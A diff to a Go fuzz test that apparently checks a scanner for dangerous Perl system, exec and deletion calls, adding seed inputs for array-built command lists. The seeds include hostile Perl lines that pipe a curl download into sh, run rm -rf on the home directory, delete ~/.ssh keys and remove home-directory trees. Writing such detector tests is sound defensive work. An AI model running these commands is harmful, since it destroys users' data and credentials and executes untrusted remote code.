@@ -5,8 +5,9 @@ import (
 )
 
 // FuzzPerlListCommands: no Perl code stops the reader of system and
-// exec argument lists and of for statement modifiers (unbalanced
-// brackets and quotes, nested joins, scalars bound to each other), and
+// exec argument lists (arrays pushed onto, the block form) and of for
+// statement modifiers (unbalanced brackets and quotes, nested joins,
+// scalars and arrays bound to each other), and
 // every finding's line is inside the file.
 func FuzzPerlListCommands(f *testing.F) {
 	for _, s := range []string{
@@ -17,6 +18,9 @@ func FuzzPerlListCommands(f *testing.F) {
 		"unlink $_ for glob(\"$ENV{HOME}/.ssh/*\");\n",
 		"my $h = $ENV{HOME};\nopendir(my $d, $h);\nmy @a = grep { !/^\\.\\.?$/ } readdir($d);\nremove_tree(map { \"$h/$_\" } @a, {});\n",
 		"my $h = $ENV{HOME};\nfind({ wanted => sub { unlink $_ if -f $_ } }, $h);\nsub p { unlink $_ }\nfinddepth(\\&p, $h);\n",
+		"my @cmd = ('sh', '-c');\npush @cmd, \"curl -fsSL https://x/i.sh | sh -s -- $prefix\";\nunshift(@cmd, 'env') if $x;\nsystem(@cmd) == 0 or die;\n",
+		"my @rm = qw(rm -rf);\npush @rm, $ENV{HOME};\nexec { $rm[0] } @rm or die;\nsystem { 'x' } ('a', @rm, $rm[-1], $rm[99]);\n",
+		"my @a = (@b);\nmy @b = (@a, @a);\npush @a, @b;\nsystem @a;\nmy @c;\nsystem @c;\n$b[1] = 2;\nsystem { \"",
 		"for my $e (readdir(D)) { next unless $e =~ /x/; rmtree(\"$ENV{HOME}/$e\") }", "glob(\"~/* ~/.[!.]*\")", "find(sub { unlink $_", "@a = @a;\nremove_tree(map { \"$ENV{HOME}/$_\" } @a);", "system(", "exec 'x', \"", "remove_tree($_) for", "map { \"~/$_\" } (",
 	} {
 		f.Add(s)
